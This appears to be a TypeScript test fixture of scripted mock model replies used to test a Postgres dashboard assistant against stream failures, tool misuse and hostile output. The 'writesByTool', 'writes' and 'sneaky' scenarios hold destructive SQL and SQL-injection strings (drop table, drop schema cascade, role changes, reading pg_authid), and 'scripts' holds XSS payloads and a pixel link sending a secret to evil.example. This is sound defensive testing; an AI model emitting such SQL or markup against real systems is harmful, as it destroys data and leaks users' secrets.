import type { Reply, ReplyPart, Script } from './reply.ts';

const sqlBlock = (props: object, sql: string) =>
  `\`\`\`sql\n-- props: ${JSON.stringify(props)}\n${sql}\n\`\`\``;

const inSteps =
  (...replies: Reply[]): Script =>
  (_request, step) =>
    replies[Math.min(step, replies.length - 1)]!;

const always =
  (reply: Reply): Script =>
  () =>
    reply;

const openAiError = (message: string, type: string) => JSON.stringify({ error: { message, type } });

const books: ReplyPart = {
  text: `Here are the books:\n\n${sqlBlock({ title: 'All books', runQuery: true }, 'select id, title from books order by id')}\n\nRun it as it is.`,
};

/**
 * Replies that a word in the user's message selects, for example `scenario:writes`. Each is something that a real model has
 * sent, or that an attacker could make one send.
 */
export const scenarios = {
  /** Markdown that once froze the panel, with text before and after it. */
  hostile: always([
    {
      text: `**Before**\n\n${'>'.repeat(5000)}\n\n${'x'.repeat(20_000)}\n\n${'*a*'.repeat(10_000)}\n\nThe end.`,
    },
  ]),
  plain: always([{ text: 'Howdah is a dashboard for Postgres. Ask away.' }]),
  /** A select that can run automatically. */
  select: always([books]),
  /** A select with a chart. */
  chart: always([
    {
      text: sqlBlock(
        { title: 'Books by language', runQuery: true, isChart: true, xAxis: 'language', yAxis: 'books' },
        'select language, count(*) as books from books group by language order by language',
      ),
    },
  ]),
  /** Calls a tool first, then replies. */
  tables: inSteps(
    [{ text: 'Let me look. ' }, { tool: 'listTables', input: { schemas: ['public'] } }],
    [books],
  ),
  twoTools: inSteps(
    [
      { tool: 'listSchemas', input: {} },
      { tool: 'listPolicies', input: { schemas: ['public'] } },
    ],
    [{ text: 'I have looked at schemas and policies.' }],
  ),
  /** Sends its reasoning first, in both formats of models. */
  thoughts: always([{ thought: 'The person wants books.' }, { text: '<think>Or do they?</think>' }, books]),
  /** Sends one word at a time. */
  slow: always(
    'Slowly and surely the elephant walks home.'
      .split(/(?<= )/)
      .flatMap((text) => [{ text }, { pause: 150 }]),
  ),
  /** Sends some text, then nothing. */
  silent: always([{ text: 'One moment. ' }, { hang: true }]),
  hang: always([{ hang: true }]),
  endless: always([{ endless: 'and on ', every: 5 }]),
  /** An endless reply at full speed. */
  flood: always([{ endless: 'x'.repeat(4096), every: 0 }]),
  /** Calls the same tool endlessly. */
  toolLoop: always([{ tool: 'listSchemas', input: {} }]),
  toolFlood: inSteps(
    Array.from({ length: 100 }, () => ({ tool: 'listTables', input: {} })),
    [{ text: 'Enough.' }],
  ),
  unknownTool: inSteps(
    [{ tool: 'runSql', input: { sql: 'drop table books' } }],
    [{ text: 'I could not do that.' }],
  ),
  /** Tool input that does not match the schema. */
  badInput: inSteps([{ tool: 'describeTables', input: { tables: 7 } }], [{ text: 'I asked wrongly.' }]),
  /** Tool input that is not JSON. */
  brokenInput: inSteps(
    [{ tool: 'describeTables', input: '{"schema": "pub' }],
    [{ text: 'I asked wrongly.' }],
  ),
  /** Tries to write with the tool that explains. */
  writesByTool: inSteps(
    [
      { tool: 'explainSelect', input: { sql: 'delete from books' } },
      { tool: 'explainSelect', input: { sql: 'select 1; delete from books' } },
      {
        tool: 'explainSelect',
        input: { sql: 'with gone as (delete from books returning 1) select * from gone' },
      },
      { tool: 'explainSelect', input: { sql: 'select * into copied from books' } },
      { tool: 'explainSelect', input: { sql: '(analyze) delete from books' } },
      { tool: 'explainSelect', input: { sql: 'select * from pg_authid' } },
      {
        tool: 'describeTables',
        input: { schema: "public'); drop table books; --", tables: ["books'; drop table books; --"] },
      },
      { tool: 'listFunctions', input: { schema: "\\'; drop table books; --" } },
    ],
    [{ text: 'It did not work.' }],
  ),
  /** SQL that writes, marked as a query that can run automatically. */
  writes: always([
    { text: sqlBlock({ title: 'Books', runQuery: true }, 'delete from books') },
    {
      text: `\n\n${sqlBlock({ title: 'More', runQuery: true }, 'with d as (delete from books returning 1) select count(*) from d')}`,
    },
    {
      text: `\n\n${sqlBlock({ title: 'Again', runQuery: true }, 'select created_at from books; drop schema public cascade')}`,
    },
  ]),
  /** SQL that looks harmless and is not. Each fooled some earlier check. */
  sneaky: always(
    [
      'select created_at from books; create schema owned',
      'select * into owned from books',
      'select 1 as created; drop table books cascade',
      "select set_config('role', 'postgres', false)",
      'select lo_creat(-1)',
      "-- select\nupdate books set title = 'owned'",
      'select * from books where id in (with d as (delete from books returning id) select id from d)',
      "do $$ begin execute 'drop table books'; end $$",
    ].map((sql, index) => ({ text: `${sqlBlock({ title: `Sneaky ${index}`, runQuery: true }, sql)}\n\n` })),
  ),
  wrongSql: always([
    { text: sqlBlock({ title: 'Wrong', runQuery: true }, 'select nothing_like_it from books') },
  ]),
  /** A function that is not known to be harmless. */
  functions: always([
    { text: sqlBlock({ title: 'A nap', runQuery: true }, 'select pg_sleep(0) is null as slept') },
  ]),
  /** A write that a user may want. */
  newSchema: always([
    {
      text: sqlBlock({ title: 'A new schema', runQuery: false }, 'create schema from_the_assistant'),
    },
  ]),
  /** A chart with columns that the rows do not have. */
  wrongChart: always([
    {
      text: sqlBlock(
        { title: 'Newest books', runQuery: true, isChart: true, xAxis: 'title', yAxis: 'sold' },
        'select id, title, null as note from books order by id limit 250',
      ),
    },
  ]),
  /** Markdown with scripts. */
  scripts: always([
    {
      text: [
        'Hello <script>document.title = "owned"</script><img src=x onerror="document.title=\'owned\'">',
        '[click](javascript:document.title=%22owned%22) [data](data:text/html,<script>1</script>)',
        '![tracked](https://evil.example/pixel.png?q=secret)',
        '<iframe src="https://evil.example"></iframe><a href="vbscript:x">x</a>',
        sqlBlock(
          { title: '<img src=x onerror=alert(1)>', runQuery: true },
          "select '<script>1</script>' as html",
        ),
      ].join('\n\n'),
    },
  ]),
  /** The connection is cut in the middle of a word. */
  cut: always([{ text: 'The first half ' }, { pause: 50 }, { cut: true }]),
  /** The stream ends without its last message. */
  unfinished: always([{ text: 'The first half ' }, { unfinished: true }]),
  /** Invalid data in the middle. */
  garbage: always([{ text: 'The first half ' }, { raw: 'data: {"choices": [\n\n' }, { text: 'the second' }]),
  endlessLine: always([{ text: 'The first half ' }, { endlessRaw: 'data: '.padEnd(65_536, 'x') }]),
  /** An error in the middle, as servers send it. */
  errorChunk: always([{ text: 'The first half ' }, { error: 'The GPU has left. sk-do-not-show' }]),
  /** Ends at the length limit. */
  tooLong: always([{ text: 'The first half ' }, { finish: 'length' }]),
  filtered: always([{ text: 'The first ' }, { finish: 'content_filter' }]),
  empty: always([]),
  /** Error responses of the server. */
  refusesKey: always({
    status: 401,
    body: openAiError('Incorrect API key provided: sk-do-not-show.', 'invalid_request_error'),
  }),
  busy: always({ status: 429, body: openAiError('Rate limit reached', 'rate_limit_error') }),
  refuses: always({
    status: 400,
    body: openAiError('This model does not support tools', 'invalid_request_error'),
  }),
  fails: always({ status: 500, body: openAiError('Out of memory', 'server_error') }),
  failsInHtml: always({ status: 502, body: '<h1>Bad gateway</h1>', type: 'text/html' }),
  /** A web page instead of a stream. */
  page: always({ status: 200, body: '<h1>It works</h1>', type: 'text/html' }),
  /** Replies to requests of the editor. */
  title: always([{ text: '{"title": "Newest books", "description": "The ten books that came last."}' }]),
  titleInWords: always([
    { text: 'Sure! Here it is:\n```json\n{"title": "Newest books", "description": "Ten."}\n```\nEnjoy.' },
  ]),
  titleNonsense: always([{ text: 'I would call it something with books.' }]),
  completion: always([{ text: 'select id, title from books where price > 10' }]),
  completionInFence: always([{ text: '```sql\nselect id, title\nfrom books\n```' }]),
  completionInWords: always([
    { text: 'Here you are:\n\n```sql\nselect id from books\n```\n\nIt reads the books.' },
  ]),
} satisfies Record<string, Script>;

export type Scenario = keyof typeof scenarios;

/** The scenario in a message; undefined when it names none. */
export function scenarioIn(question: string): Scenario | undefined {
  const name = /\bscenario:(\w+)/.exec(question)?.[1];
  return name !== undefined && name in scenarios ? (name as Scenario) : undefined;
}
